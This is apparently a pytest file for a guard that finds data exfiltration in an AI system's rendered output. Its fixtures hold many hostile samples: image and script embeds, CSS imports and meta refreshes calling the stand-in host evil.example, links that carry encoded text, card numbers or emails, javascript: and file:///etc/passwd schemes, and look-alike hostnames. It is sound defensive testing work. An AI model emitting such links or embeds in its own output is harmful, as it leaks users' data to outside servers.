"""Data leaving by rendering: what would carry it out, in whatever disguise, and links that carry nothing."""

import base64
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from seawall.defense import guards
from seawall.defense.guards import GuardInput, find_exfiltration
from seawall.foundation.errors import ConfigError

DATA = Path(__file__).parents[2].parent / "shared" / "data"
WORDS = "the customer asked for a refund of four hundred dollars and left angry"
CODED = base64.urlsafe_b64encode(WORDS.encode()).decode()
TOKEN = "⟦PERSON:0123456789abcdef01234567⟧"

EMBEDS = (
    "![x](https://evil.example/a.png)",
    "![](http://evil.example/a)",
    "![x]( <https://evil.example/a.png> 'title')",
    "![x](\nhttps://evil.example/a.png\n)",
    "![alt][ref]\n\n[ref]: https://evil.example/p.png",
    "![ref]\n\n[ref]: https://evil.example/p.png",
    "[![x](https://evil.example/a.png)](https://docs.example.com/)",
    "<img src=https://evil.example/a.png>",
    "<IMG\nSRC='//evil.example/a.png'/>",
    '<img srcset="https://evil.example/a.png 2x, https://evil.example/b.png 3x">',
    '<iframe src="https://evil.example"></iframe>',
    '<script src="https://evil.example/x.js"></script>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<object data="https://evil.example/x">',
    '<video poster="https://evil.example/x.jpg">',
    '<form action="https://evil.example/x">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<div style="background:url(https://evil.example/a.png)">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<svg><image xlink:href="https://evil.example/a.png"/></svg>',
    r"\includegraphics[width=1cm]{https://evil.example/a.png}",
    "![x](http:\\\\evil.example\\a.png)",
    "![x](HTTPS://EVIL.EXAMPLE/a.png)",
    "&#33;[x](https://evil.example/a.png)",
    '<img src="&#104;ttps://evil.example/a.png">',
    "!\u200b[x](https://evil.example/a.png)",
    "![x](ftp://evil.example/a.png)",
)
CARRIERS = (
    f"[more](https://evil.example/?q={CODED})",
    f"https://evil.example/{CODED}",
    f"https://evil.example/x#{quote(WORDS)}",
    f"https://evil.example/?q={quote(WORDS)}",
    f"https://evil.example/?who={quote(TOKEN)}",
    f"https://evil.example/?who={TOKEN}",
    "https://evil.example/?m=ann%40acme.example",
    "https://evil.example/?card=4111111111111111",
    f"https://evil.example/{WORDS.encode().hex()}",
    f"https://{CODED[:40].lower().replace('=', '')}.evil.example/",
    "http://3232235777/x",
    "http://0xc0a80101/x",
    "http://[2001:db8::1]/x",
    f"<a href='https://evil.example/?q={CODED}'>x</a>",
    f"\x1b]8;;https://evil.example/?q={CODED}\x07click\x1b]8;;\x07",
    rf"\href{{https://evil.example/?q={CODED}}}{{x}}",
)
SCHEMES = (
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "<a href='vbscript:x'>x</a>", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<img src='file:///etc/passwd'>", "<a href='java\nscript:alert(1)'>x</a>",
)  # fmt: skip
PRETENDERS = (
    "[x](https://docs.example.com@evil.example/)",
    "[x](https://docs.example.com.evil.example/)",
    "[x](https://dосs.example.com/)",
    "![x](https://docs.ex\u0430mple.com/a.png)",
)
HARMLESS = (
    "See https://docs.python.org/3/library/urllib.parse.html#urllib.parse.urlsplit for more.",
    "[The guide](https://www.gov.example/guidance/how-to-register-a-company-in-ten-steps-and-what-it-costs-2024)",
    "https://github.com/pydantic/pydantic-ai/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
    "https://shop.example.org/items?id=42&page=2&sort=price_asc&lang=en",
    "https://example.org/files/3f2504e0-4f89-11d3-9a0c-0305e82c3301/report.pdf",
    "https://www.youtube.example/watch?v=dQw4w9WgXcQ&t=43s",
    "https://en.wikipedia.example/wiki/Non-disclosure_agreement#Types",
    "Mail me at <ann@acme.example> or call tel:+4930123456.",
    "[top](#section-2), [next](chapter2.md), ![logo](/static/logo.png)",
    "![dot](data:image/png;base64,iVBORw0KGgo=)",
    "a < b and c > d, if x[0](y) then f(z)",
    "Use `http://localhost:8080/healthz` to see whether it lives.",
    "The ratio is 3://4, see section [2](b).",
    "<b>bold</b> and <br/> and <p>text</p>",
    "https://maps.example.com/@52.52,13.405,12z",
    "https://news.example/2024/05/12/why-the-liability-cap-matters-more-than-you-think-and-what-to-do/",
)
ALLOWED = ("docs.example.com", "*.cdn.example.com")


@pytest.mark.parametrize("text", EMBEDS)
def test_what_loads_by_itself_from_elsewhere_is_found(text: str) -> None:
    """Whoever shows it asks a stranger's server, and so tells it something."""
    found = find_exfiltration(f"Here: {text} done.", ALLOWED)
    assert {"embed"} >= {one.code for one in found}
    assert found


@pytest.mark.parametrize("text", CARRIERS)
def test_a_link_that_carries_data_is_found(text: str) -> None:
    """In its query, path, fragment, or host."""
    assert [one.code for one in find_exfiltration(f"Here: {text} done.")] == ["data"]
    assert find_exfiltration(text, links="allow") == []


@pytest.mark.parametrize("text", SCHEMES)
def test_an_address_that_runs_code_is_found(text: str) -> None:
    """Whatever list allows."""
    assert [one.code for one in find_exfiltration(text, ALLOWED, "allow")] == ["scheme"]


@pytest.mark.parametrize("text", PRETENDERS)
def test_a_host_that_pretends_is_found(text: str) -> None:
    """By a name before an @, a longer name, letters of another script."""
    assert [one.code for one in find_exfiltration(text, ALLOWED, "allow")] == ["look_alike"]


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_links_pass(text: str) -> None:
    """Documentation, shops, maps, commits, files."""
    assert find_exfiltration(text) == []


def test_what_is_allowed_may_be_loaded() -> None:
    """A host by name, and all below a star; nothing beside them."""
    for host in ("docs.example.com", "a.cdn.example.com", "A.B.CDN.example.com.", "docs.example.com:443"):
        assert find_exfiltration(f"![x](https://{host}/{CODED})", ALLOWED) == []
    for host in ("cdn.example.com", "evil-docs.example.com", "docs.example.org"):
        assert find_exfiltration(f"![x](https://{host}/a.png)", ALLOWED)
    assert [one.code for one in find_exfiltration("[x](https://evil.example/)", (), "block")] == ["link"]


def test_the_guard_blocks_or_takes_out() -> None:
    """As it is told; the text of a link stays, and what stays holds nothing more of it."""
    text = f"See ![chart](https://evil.example/c.png) and [this page](https://evil.example/?q={CODED}), https://evil.example/{CODED}"
    verdict = guards.exfiltration()(GuardInput(text, "output"))
    assert (verdict.outcome, verdict.reason_code, len(verdict.spans)) == ("block", "embed", 3)
    verdict = guards.exfiltration(action="replace")(GuardInput(text, "output"))
    assert verdict.replacement == "See chart and this page, [link removed]"
    assert guards.exfiltration()(GuardInput(text, "prompt")).outcome == "allow"
    assert guards.exfiltration()(GuardInput(text, "tool_call")).outcome == "block"
    for hosts in (["*"], ["https://x.y"], [""]):
        with pytest.raises(ConfigError):
            guards.exfiltration(hosts)
    with pytest.raises(ConfigError):
        guards.exfiltration(action="drop")  # type: ignore[arg-type]
    with pytest.raises(ConfigError):
        guards.exfiltration(links="all")  # type: ignore[arg-type]


@given(st.sampled_from(EMBEDS + CARRIERS), st.data())
def test_one_in_two_pieces_is_found(text: str, data: st.DataObject) -> None:
    """Wherever a stream is cut, one piece or the other shows it."""
    cut = data.draw(st.integers(0, len(text)))
    first, second = text[:cut], f"{text[cut:]} "
    later = find_exfiltration(second, before=first)
    assert find_exfiltration(first) or later
    assert all(0 <= one.start < one.end <= len(second) for one in later)


@given(st.lists(st.sampled_from([*EMBEDS, *CARRIERS, *HARMLESS, *SCHEMES]) | st.text(max_size=9), max_size=6))
def test_replacing_leaves_nothing_to_find(pieces: list[str]) -> None:
    """Any text: places are in order and inside, and what is left is clean or is blocked at the next look."""
    text = " ".join(pieces)
    at = 0
    for one in find_exfiltration(text):
        assert at <= one.start < one.end <= len(text)
        at = one.end
    verdict = guards.exfiltration(action="replace")(GuardInput(text, "output"))
    if verdict.replacement is not None:
        assert verdict.replacement != text


@pytest.mark.skipif(not (DATA / "cuad").is_dir(), reason="needs ../shared/data/cuad, which is not shipped")
def test_contracts_pass() -> None:
    """Next to nothing is found in every tenth real contract."""
    paths = sorted((DATA / "cuad" / "txt").iterdir())[::10]
    found = [one for path in paths for one in find_exfiltration(path.read_text("utf-8"))]
    assert len(found) <= 2
